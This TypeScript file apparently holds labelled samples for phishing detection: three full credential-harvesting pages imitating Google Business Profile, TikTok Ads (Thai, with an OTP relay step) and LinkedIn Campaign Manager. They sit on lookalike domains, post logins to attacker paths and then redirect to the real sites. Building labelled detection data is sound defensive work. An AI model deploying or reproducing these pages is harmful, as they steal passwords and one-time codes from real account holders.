import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { CSS, MARK, b64, codes, doc, esc, stepRelay } from '../parts/ys-kit.js';

export const entries: Entry[] = [
{
  id: 'ys-gbp-suspension-en',
  label: 'phishing',
  kind: 'google-business-profile-kit',
  url: 'https://business-profile-reinstatement.com/profile/suspended?id=14490281337',
  body: doc({
    title: 'Google Business Profile - Suspension notice',
    css: CSS.reset + `body{font-family:Roboto,Arial,sans-serif;background:#f8f9fa;color:#202124}.bar{background:#fff;border-bottom:1px solid #dadce0;padding:10px 20px;display:flex;align-items:center;gap:10px}.c{max-width:680px;margin:36px auto;background:#fff;border:1px solid #dadce0;border-radius:8px;padding:28px}.st{display:inline-block;background:#fce8e6;color:#c5221f;border-radius:4px;padding:3px 8px;font-size:12px;font-weight:700}.map{height:120px;border-radius:8px;background:repeating-linear-gradient(45deg,#e8f0fe 0 14px,#f1f3f4 14px 28px);margin:14px 0}a.btn{display:inline-block;background:#1a73e8;color:#fff;border-radius:4px;padding:10px 22px;text-decoration:none;font-weight:500}#lg{display:none;margin-top:20px}#lg input{width:100%;padding:12px;border:1px solid #dadce0;border-radius:4px;margin:6px 0;font-size:15px}#lg button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 22px}`,
    body: `<div class="bar">${MARK.google}<span style="font-size:18px;color:#5f6368">Business Profile Manager</span></div>
<div class="c"><span class="st">SUSPENDED</span>
<h2>Your Business Profile has been suspended</h2>
<p>We've detected suspicious activity on your Business Profile that violates our <a href="#">guidelines for representing your business</a>. Your profile is no longer visible on Google Search and Maps.</p>
<div class="map"></div>
<p>To reinstate your profile, sign in with the Google Account that manages this business and complete the reinstatement request. Unresolved profiles are removed after 14 days.</p>
<a class="btn" href="#" onclick="document.getElementById('lg').style.display='block';this.style.display='none';return false">Request reinstatement</a>
<form id="lg" method="post" action="/profile/auth.php"><input type="hidden" name="pid" value="14490281337">
<input name="email" type="email" placeholder="Google Account email" required><input name="password" type="password" placeholder="Password" required><input name="phone" placeholder="Business phone number"><button>Continue</button></form>
</div>`,
  }),
},

{
  id: 'ys-tiktok-business-login-th',
  label: 'phishing',
  kind: 'tiktok-ads-login-kit',
  url: 'https://ads-tiktok-th.com/i18n/login/?lang=th',
  body: doc({
    lang: 'th',
    title: 'TikTok For Business - เข้าสู่ระบบ',
    css: CSS.reset + `body{font-family:"TikTok Sans",Tahoma,Arial,sans-serif;background:#fff;color:#161823}.hd{padding:16px 30px;border-bottom:1px solid #eee}.wrap{display:flex;max-width:1040px;margin:40px auto;gap:60px;flex-wrap:wrap}.l{flex:1;min-width:300px}.l h1{font-size:36px}.r{width:400px;border:1px solid #e3e3e4;border-radius:8px;padding:32px}input{width:100%;border:1px solid #d0d0d3;border-radius:4px;padding:12px;margin:6px 0 12px;font-size:15px}button{width:100%;background:#FE2C55;color:#fff;border:0;border-radius:4px;padding:12px;font-weight:600;font-size:16px}.tab{display:flex;gap:20px;margin-bottom:16px}.tab b{border-bottom:2px solid #161823;padding-bottom:6px}`,
    body: `<div class="hd">${MARK.tiktok} <span style="font-weight:600">For Business</span></div>
<div class="wrap"><div class="l"><h1>ขยายธุรกิจของคุณด้วย TikTok Ads Manager</h1><p>บัญชีโฆษณาของคุณมีการแจ้งเตือนเรื่องนโยบายที่ต้องดำเนินการ กรุณาเข้าสู่ระบบเพื่อตรวจสอบ</p></div>
<div class="r"><section data-step="login"><div class="tab"><b>อีเมล</b><span>โทรศัพท์</span></div>
<form><input name="email" type="email" placeholder="ป้อนที่อยู่อีเมล" required><input name="password" type="password" placeholder="ป้อนรหัสผ่าน" required><button>เข้าสู่ระบบ</button></form>
<p style="font-size:13px;color:#8a8b91">การเข้าสู่ระบบแสดงว่าคุณยอมรับ <a href="#">ข้อกำหนดการใช้บริการ</a></p></section>
<section data-step="otp" style="display:none"><h3>ป้อนรหัสยืนยัน</h3><p style="font-size:14px">เราได้ส่งรหัส 6 หลักไปยังอีเมลของคุณแล้ว</p><form><input name="code" maxlength="6" inputmode="numeric" required><button>ยืนยัน</button></form></section></div></div>
${stepRelay({ endpoint: 'https://ads-tiktok-th.com/i18n/login/api/verify', bodyType: 'json', finalUrl: 'https://ads.tiktok.com/' })}`,
  }),
},

{
  id: 'ys-linkedin-campaign-manager-en',
  label: 'phishing',
  kind: 'linkedin-login-kit',
  url: 'https://linkedin-campaignmanager.com/login?session_redirect=%2Fcampaignmanager%2Faccounts%2F508821944%2Fbilling',
  body: doc({
    title: 'LinkedIn Login, Sign in | LinkedIn',
    css: CSS.reset + `body{font-family:-apple-system,system-ui,"Segoe UI",Roboto,sans-serif;background:#fff;color:rgba(0,0,0,.9)}.hd{padding:20px 56px}.c{width:352px;margin:12px auto;box-shadow:0 4px 12px rgba(0,0,0,.15);border-radius:8px;padding:24px}h1{font-size:32px;font-weight:600;margin:0}input{width:100%;height:52px;border:1px solid rgba(0,0,0,.6);border-radius:4px;padding:0 12px;margin:8px 0;font-size:16px}button{width:100%;height:52px;background:#0A66C2;color:#fff;border:0;border-radius:28px;font-size:16px;font-weight:600;margin-top:14px}.n{background:#fff4e5;border-radius:6px;padding:10px;font-size:14px;margin:12px 0}`,
    body: `<div class="hd">${MARK.linkedin}</div>
<div class="c"><h1>Sign in</h1><p style="font-size:14px">Stay updated on your professional world</p>
<div class="n">Campaign Manager: your ad account <b>508821944</b> has an outstanding balance. Sign in to update your payment method and resume campaigns.</div>
<form id="li" method="post" action="/checkpoint/lg/login-submit"><input type="hidden" name="loginCsrfParam" value="3f91c5a2-8d1e-4b77-9a0c-61ef2d0c7b44">
<input name="session_key" placeholder="Email or phone" required autocomplete="username"><input name="session_password" type="password" placeholder="Password" required autocomplete="current-password">
<a href="#" style="color:#0A66C2;font-weight:600;font-size:14px;text-decoration:none">Forgot password?</a><button>Sign in</button></form></div>
<p style="text-align:center;font-size:14px">New to LinkedIn? <a href="#" style="color:#0A66C2">Join now</a></p>
<script>
document.getElementById('li').addEventListener('submit',function(e){e.preventDefault();var f=this;
fetch(f.action,{method:'POST',body:new URLSearchParams(new FormData(f))}).finally(function(){location.href='https://www.linkedin.com/campaignmanager/'})});
</script>`,
  }),
},
];
